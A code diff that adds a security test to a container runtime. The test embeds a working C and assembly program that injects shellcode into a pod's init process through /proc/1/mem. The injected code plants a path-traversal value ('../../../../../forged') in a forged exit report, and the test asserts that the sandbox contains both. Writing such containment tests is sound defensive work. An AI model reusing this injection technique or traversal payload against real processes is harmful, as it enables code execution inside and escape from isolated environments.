@@ -1180,3 +1180,147 @@ fn the_pods_init_holds_nothing_of_the_host() {
         assert!(!text.contains(leak), "init leaked {leak}: {text}");
     }
 }
+
+/// Runs code in the pod's init, as a pod process granted CAP_SYS_PTRACE
+/// can (the default seccomp filter refuses `ptrace` itself, not
+/// `/proc/1/mem`): finds where init waits (`/proc/1/syscall`), writes code
+/// there, makes an orphan exit so init's wait returns into it. The code
+/// stores what `getpid`, `mkdirat("/injected")` and `openat("/apps")`
+/// returned below init's stack pointer, writes a forged exit report naming
+/// the app `../../../../../forged` (which would be written outside the pod
+/// directory) on each of its first fds, then waits until the pod is empty
+/// and exits. Prints `getpid=.. mkdirat=.. openat=..` as init saw them.
+const INIT_INJECTION_ATTACK: &str = r#"
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+__asm__(
+    ".globl code_start, code_end\n"
+    "code_start:\n"
+    "  mov $39, %eax\n"            /* getpid */
+    "  syscall\n"
+    "  mov %rax, -512(%rsp)\n"
+    "  mov $258, %eax\n"           /* mkdirat(AT_FDCWD, "/injected", 0755) */
+    "  mov $-100, %rdi\n"
+    "  lea dir(%rip), %rsi\n"
+    "  mov $0755, %edx\n"
+    "  syscall\n"
+    "  mov %rax, -520(%rsp)\n"
+    "  mov $257, %eax\n"           /* openat(AT_FDCWD, "/apps", O_DIRECTORY) */
+    "  mov $-100, %rdi\n"
+    "  lea apps(%rip), %rsi\n"
+    "  mov $0x10000, %edx\n"
+    "  xor %r10, %r10\n"
+    "  syscall\n"
+    "  mov %rax, -528(%rsp)\n"
+    "  xor %ebx, %ebx\n"           /* a forged exit report on fds 0..19 */
+    "2:\n"
+    "  mov $1, %eax\n"
+    "  mov %rbx, %rdi\n"
+    "  lea forged(%rip), %rsi\n"
+    "  mov $(forged_end - forged), %edx\n"
+    "  syscall\n"
+    "  inc %ebx\n"
+    "  cmp $20, %ebx\n"
+    "  jne 2b\n"
+    "1:\n"
+    "  mov $61, %eax\n"            /* wait4(-1, 0, 0, 0) until ECHILD */
+    "  mov $-1, %rdi\n"
+    "  xor %esi, %esi\n"
+    "  xor %edx, %edx\n"
+    "  xor %r10, %r10\n"
+    "  syscall\n"
+    "  cmp $-10, %rax\n"
+    "  jne 1b\n"
+    "  mov $231, %eax\n"           /* exit_group(0) */
+    "  xor %edi, %edi\n"
+    "  syscall\n"
+    "dir: .asciz \"/injected\"\n"
+    "apps: .asciz \"/apps\"\n"
+    "forged: .ascii \"{\\\"exit\\\":{\\\"app\\\":\\\"../../../../../forged\\\",\\\"status\\\":7}}\\n\"\n"
+    "forged_end:\n"
+    "code_end:\n");
+extern char code_start[], code_end[];
+
+int main(void) {
+    unsigned long nr = 0, sp = 0, pc = 0, a[6];
+    for (int tries = 0; tries < 500; tries++) {
+        FILE *f = fopen("/proc/1/syscall", "r");
+        if (!f) { perror("open /proc/1/syscall"); return 1; }
+        int n = fscanf(f, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &a[0], &a[1], &a[2],
+                       &a[3], &a[4], &a[5], &sp, &pc);
+        fclose(f);
+        if (n == 9 && (nr == 61 || nr == 247)) break;
+        nr = 0;
+        usleep(10000);
+    }
+    if (nr == 0) { printf("init is not waiting\n"); return 1; }
+    int mem = open("/proc/1/mem", O_RDWR);
+    if (mem < 0) { perror("open /proc/1/mem"); return 1; }
+    long marker = 0x4141414141414141;
+    for (int off = 512; off <= 528; off += 8)
+        if (pwrite(mem, &marker, 8, sp - off) != 8) { perror("write init's stack"); return 1; }
+    size_t len = code_end - code_start;
+    if (pwrite(mem, code_start, len, pc) != (ssize_t)len) { perror("write init's code"); return 1; }
+    printf("code written into init\n");
+    fflush(stdout);
+    /* An orphan (re-parented to init) exits: init's wait returns into the code. */
+    pid_t child = fork();
+    if (child == 0) {
+        if (fork() == 0) { usleep(100000); _exit(0); }
+        _exit(0);
+    }
+    waitpid(child, 0, 0);
+    long got[3] = {marker, marker, marker};
+    for (int tries = 0; tries < 500 && got[2] == marker; tries++) {
+        usleep(10000);
+        for (int i = 0; i < 3; i++)
+            if (pread(mem, &got[i], 8, sp - 512 - 8 * i) != 8) { perror("read init's stack"); return 1; }
+    }
+    if (got[2] == marker) { printf("the code did not run\n"); return 1; }
+    printf("getpid=%ld mkdirat=%ld openat=%ld\n", got[0], got[1], got[2]);
+    return 0;
+}
+"#;
+
+#[test]
+fn code_injected_into_init_can_do_nothing_but_wait_and_signal() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path();
+    let _guard = PodsGuard { root };
+    let aci = c_program_image(root, "inject", INIT_INJECTION_ATTACK);
+    let out = output(
+        std::process::Command::new(env!("CARGO_BIN_EXE_skiff"))
+            .env("SKIFF_DIR", root.join("data"))
+            .arg("--local-config")
+            .arg(root.join("etc"))
+            .arg("--system-config")
+            .arg(root.join("usr"))
+            .args(["--insecure-options=image", "run", "--net=none"])
+            .arg(&aci)
+            .args(["--cap-retain=CAP_SYS_PTRACE", "--exec=/inject"]),
+    );
+    let text = stdout(&out);
+    // The injection itself worked (the check can fail): the code ran as
+    // the pod's pid 1 ...
+    assert!(
+        text.contains("code written into init"),
+        "{text}{}",
+        stderr(&out)
+    );
+    assert!(text.contains("getpid=1 "), "{text}{}", stderr(&out));
+    // ... and could neither create nor open anything (EPERM) ...
+    assert!(
+        text.contains("mkdirat=-1 openat=-1"),
+        "{text}{}",
+        stderr(&out)
+    );
+    // ... nor have the supervisor write outside the pod for it.
+    assert!(
+        !root.join("forged").exists(),
+        "a forged report wrote on the host: {text}"
+    );
+}
